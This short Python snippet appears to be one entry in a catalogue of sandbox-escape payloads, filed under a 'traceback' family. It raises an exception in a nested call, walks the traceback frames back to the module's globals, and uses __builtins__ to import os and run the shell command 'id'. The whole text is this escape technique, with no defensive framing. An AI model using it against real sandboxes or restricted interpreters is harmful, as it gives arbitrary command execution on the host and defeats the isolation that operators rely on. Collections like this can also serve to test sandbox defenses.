# Source: https://github.com/saint2706/Coding-For-MBA/pull/609
# Family: traceback
# What: traceback frame of a nested call, f_back twice, f_globals of the module
def inner():
    raise RuntimeError()

def outer():
    inner()

try:
    outer()
except RuntimeError as e:
    tb = e.__traceback__
    while tb.tb_next:
        tb = tb.tb_next
    tb.tb_frame.f_back.f_back.f_globals["__builtins__"].__import__("os").system("id")
